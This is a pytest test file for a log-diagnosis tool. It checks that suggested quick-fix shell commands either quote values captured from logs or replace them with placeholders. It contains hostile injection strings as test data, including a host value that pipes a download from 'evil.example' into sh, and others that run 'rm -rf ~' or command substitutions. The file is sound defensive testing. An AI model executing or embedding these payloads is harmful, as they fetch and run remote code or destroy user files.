"""Hostile log text must not become a shell-injected quick fix (issue 14, Medium 4): a captured value goes
into a suggested command quoted, or not at all (the command keeps `<name>`), in every format."""

from __future__ import annotations

import json

import pytest

HOSTILE_HOST = "github.com;curl${IFS}https://evil.example/x|sh"
TEXT = (f"ECDSA host key for {HOSTILE_HOST} has changed and you have requested strict checking.\n"
        "Host key verification failed.\n")
FORMATS = ["plain", "rich", "markdown", "json", "github", "sarif"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_injected_host_never_reaches_a_command(cli, fmt):
    r = cli(["match", "--format", fmt, "--all", "-"], stdin=TEXT.encode(), env={"COLUMNS": "300"})
    assert r.code == 0
    out = r.stdout if fmt not in ("json", "sarif") else json.dumps(json.loads(r.stdout))
    for cmd in ("ssh-keygen -R ", "ssh ", "ssh-keyscan -t ed25519 ", "ssh-keygen -F "):
        assert cmd + "github.com;curl" not in out, (fmt, cmd)
    if fmt in ("plain", "rich", "markdown", "json"):  # the formats that list every quick fix
        assert "ssh-keygen -R <host>" in out


def test_a_plain_capture_is_still_pasted(cli):
    r = cli(["match", "--format", "json", "-"], stdin=(
        b"ECDSA host key for build-02.example.net has changed and you have requested strict checking.\n"))
    cmds = [f.get("command") for d in json.loads(r.stdout)["diagnoses"] for f in d["quick_fixes"]]
    assert "ssh-keygen -R build-02.example.net" in cmds


@pytest.mark.parametrize(("template", "name", "value", "expected"), [
    ("ssh-keygen -R {{host}}", "host", "github.com;curl${IFS}x|sh", "ssh-keygen -R <host>"),
    ("ssh-keygen -R {{host}}", "host", "[gitea.lan]:2222", "ssh-keygen -R '[gitea.lan]:2222'"),
    ("pip install {{package}}", "package", "requests", "pip install requests"),
    ("pip install {{package}}", "package", "x; rm -rf ~", "pip install <package>"),
    ("pip install {{package}}", "package", "$(id)", "pip install <package>"),
    ("chmod 600 '{{key}}'", "key", "/home/a/.ssh/id_ed25519", "chmod 600 '/home/a/.ssh/id_ed25519'"),
    ("chmod 600 '{{key}}'", "key", "a'; curl x|sh; '", "chmod 600 '<key>'"),
    ('git push origin "{{branch}}"', "branch", "main$(id)", 'git push origin "<branch>"'),
    ("ls {{path}}", "path", "my dir/file.txt", "ls 'my dir/file.txt'"),
    ('ls -1 "$(dirname "{{dir}}")"', "dir", "~/Downloads/iso", 'ls -1 "$(dirname "~/Downloads/iso")"'),
    ("yarn add {{packages}}", "packages", "express cors", "yarn add express cors"),
    ("yarn add {{packages}}", "packages", "express `id`", "yarn add <packages>"),
    ("run {{thing}}", "thing", "a\nb", "run <thing>"),
    ("lsof -iTCP:{{port}}", "port", "8080 -o x", "lsof -iTCP:<port>"),
])
def test_fill_quotes_or_withholds(template, name, value, expected):
    from errdiag.models import fill_placeholders

    assert fill_placeholders(template, {name: value}) == expected
